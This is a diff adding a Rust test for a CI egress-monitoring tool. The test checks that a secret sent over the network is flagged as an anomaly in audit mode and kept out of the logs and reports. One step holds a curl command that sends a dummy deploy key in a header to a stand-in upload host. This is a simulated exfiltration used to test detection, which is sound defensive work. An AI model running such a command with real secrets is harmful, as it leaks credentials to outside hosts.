@@ -678,3 +678,84 @@ fn a_warden_that_cannot_start_fails_block_mode_and_warns_in_audit_mode() {
         );
     }
 }
+
+#[test]
+fn a_secret_sent_where_it_does_not_belong_is_an_anomaly_and_fails_on_anomaly() {
+    if skip_unless_root("a_secret_sent_where_it_does_not_belong_is_an_anomaly_and_fails_on_anomaly")
+    {
+        return;
+    }
+    const SECRET: &str = "s3cr3t-deploy-value-42";
+    let netns = Netns::new().unwrap();
+    let origins = Origins::start(&netns).unwrap();
+    let cgroup = TestCgroup::new().unwrap();
+    let system = netns.trust_store_path().join("ca-certificates.crt");
+    let mut bundle = std::fs::read_to_string(&system).unwrap();
+    bundle.push_str(&std::fs::read_to_string(origins.ca_pem_path()).unwrap());
+    std::fs::write(&system, bundle).unwrap();
+    let mut job = ActionJob::new(&netns, &cgroup).unwrap();
+    job.input("egress-policy", "audit")
+        .input("tls-inspection", "true")
+        .input("fail-on", "anomaly")
+        .input("secrets", &format!("{{\"DEPLOY_KEY\": \"{SECRET}\"}}"));
+    let main = job.main().unwrap();
+    let said = format!("{main:?}\n{}", job.describe());
+    assert!(main.status.success(), "{said}");
+    let steps = [run(
+        "leak",
+        format!("curl -sS --max-time 20 -H 'X-Key: {SECRET}' https://tls.example/upload\n"),
+    )];
+    let ran = job.steps(&steps, T).unwrap();
+    assert!(
+        ran.stdout.contains("step leak exit 0"),
+        "audit mode lets it through: {ran:?}"
+    );
+    let post = job.post().unwrap();
+    let said = format!("{post:?}\n{}", job.describe());
+    assert_eq!(post.status.code(), Some(1), "fail-on: anomaly:\n{said}");
+    assert_eq!(
+        job.outputs().get("anomaly-count").map(String::as_str),
+        Some("1"),
+        "{said}"
+    );
+    assert_eq!(
+        job.outputs().get("blocked-count").map(String::as_str),
+        Some("0"),
+        "{said}"
+    );
+    let warnings: Vec<(String, String)> = annotations(&post.stdout)
+        .into_iter()
+        .filter(|(c, m)| c == "warning" && m.starts_with("secret-exfiltration: "))
+        .collect();
+    assert_eq!(
+        warnings.len(),
+        1,
+        "one warning for the anomaly (audit mode):\n{said}"
+    );
+    assert!(
+        warnings[0].1.contains("DEPLOY_KEY") && warnings[0].1.contains("step leak (run: curl"),
+        "{said}"
+    );
+    let summary = job.summary();
+    let anomalies_at = summary
+        .find("### Anomalies")
+        .unwrap_or_else(|| panic!("{said}"));
+    let dests_at = summary
+        .find("### Destinations by step")
+        .unwrap_or_else(|| panic!("{said}"));
+    assert!(anomalies_at < dests_at, "anomalies first:\n{said}");
+    // The value itself is nowhere a person or an upload step would see it.
+    let log = std::fs::read_to_string(job.runner_temp().join("warden-audit.jsonl")).unwrap();
+    let report = std::fs::read_to_string(job.runner_temp().join("warden-report.json")).unwrap();
+    for (what, text) in [
+        ("summary", &summary),
+        ("log", &log),
+        ("report", &report),
+        ("post output", &post.stdout),
+    ] {
+        assert!(
+            !text.contains(SECRET),
+            "the secret is in the {what}:\n{said}"
+        );
+    }
+}
